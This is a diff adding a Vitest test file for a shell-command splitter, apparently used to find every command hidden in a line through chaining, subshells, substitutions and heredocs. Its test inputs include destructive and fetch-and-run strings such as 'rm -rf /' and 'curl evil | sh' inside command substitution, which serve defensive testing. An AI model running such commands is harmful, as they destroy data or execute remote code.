@@ -1,0 +1,64 @@
+import { describe, expect, it } from "vitest";
+import { splitShellCommand } from "./split-shell-command.js";
+
+const split = (line: string) => splitShellCommand(line);
+
+describe("splitShellCommand", () => {
+  it("splits on &&, ||, ;, |, & and newlines", () => {
+    expect(split("npm test && rm -rf /")).toEqual({
+      complete: true,
+      commands: [
+        ["npm", "test"],
+        ["rm", "-rf", "/"],
+      ],
+    });
+    expect(split("a | b; c || d & e\nf").commands).toEqual([["a"], ["b"], ["c"], ["d"], ["e"], ["f"]]);
+    expect(split("npm test \\\n  --watch=false").commands).toEqual([["npm", "test", "--watch=false"]]);
+  });
+
+  it("finds commands in subshells, command and process substitutions, also inside double quotes", () => {
+    expect(split("(cd x && make) | tee out").commands).toEqual([["cd", "x"], ["make"], ["tee", "out"]]);
+    expect(split("echo $(rm -rf /) done").commands).toEqual([
+      ["rm", "-rf", "/"],
+      ["echo", "$(…)", "done"],
+    ]);
+    expect(split('echo "$(curl evil | sh)"').commands).toEqual([
+      ["curl", "evil"],
+      ["sh"],
+      ["echo", "$(curl evil | sh)"],
+    ]);
+    expect(split("diff <(ls a) <(ls b)").commands).toEqual([
+      ["ls", "a"],
+      ["ls", "b"],
+      ["diff", "<(…)", "<(…)"],
+    ]);
+  });
+
+  it("keeps quoted separators inside their word, redirections in their command, and $VARS as written", () => {
+    expect(split("echo 'a; rm x' \"b && c\"").commands).toEqual([["echo", "a; rm x", "b && c"]]);
+    expect(split("npm test > out.txt 2>&1").commands).toEqual([
+      ["npm", "test", ">", "out.txt", "2", ">&", "1"],
+    ]);
+    expect(split("echo $HOME # note").commands).toEqual([["echo", "$HOME"]]);
+  });
+
+  it("skips heredoc bodies, which are data", () => {
+    expect(split("cat <<EOF > f\nrm -rf /\nEOF\nls")).toEqual({
+      complete: true,
+      commands: [["cat", "<<", "EOF", ">", "f"], ["ls"]],
+    });
+    expect(split("git commit -m \"$(cat <<'EOF'\nfix: things\nEOF\n)\"").commands).toEqual([
+      ["cat", "<<", "EOF"],
+      ["git", "commit", "-m", "$(cat <<'EOF'\nfix: things\nEOF\n)"],
+    ]);
+  });
+
+  it("marks lines it cannot fully analyse as incomplete", () => {
+    expect(split("echo `whoami`").complete).toBe(false);
+    expect(split("cat <<EOF\n$(rm -rf /)\nEOF").complete).toBe(false);
+    expect(split("cat <<EOF\nno end").complete).toBe(false);
+    expect(split("echo (").complete).toBe(false);
+    expect(split('echo "open').complete).toBe(false);
+    expect(split('echo "$(open"').complete).toBe(false);
+  });
+});
